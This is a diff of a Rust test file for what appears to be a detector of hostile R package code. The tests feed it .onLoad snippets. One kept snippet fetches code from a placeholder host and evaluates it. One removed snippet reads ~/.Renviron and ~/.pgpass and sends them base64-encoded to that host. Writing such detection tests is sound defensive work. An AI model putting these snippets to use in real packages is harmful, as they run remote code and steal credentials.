@@ -70,15 +70,9 @@ fn honest_ones_of_r() {
 }
 
 #[test]
-fn connections_and_tests_of_vectors_lose_nothing() {
+fn what_is_read_of_a_connection_comes_from_there() {
     let load = |body: &str| format!(".onLoad <- function(libname, pkgname) {{\n{body}\n}}\n");
     let code = load("u <- url('https://h.invalid/l')\neval(parse(text = readLines(u, warn = FALSE)))");
     has(R, &code, "flow-remote-code");
     has_not(R, &code.replace("url('https://h.invalid/l')", "'own.R'"), "flow-remote-code");
-    let code = load(
-        "r <- path.expand(c('~/.Renviron', '~/.pgpass'))\nx <- lapply(r[file.exists(r)], readLines)\n\
-         readLines(url(paste0('https://h.invalid/l?d=', utils::URLencode(jsonlite::base64_enc(serialize(x, NULL)), TRUE))))",
-    );
-    has(R, &code, "flow-credentials-sent");
-    has_not(R, &code.replace("c('~/.Renviron', '~/.pgpass')", "c('a.csv', 'b.csv')"), "flow-credentials-sent");
 }
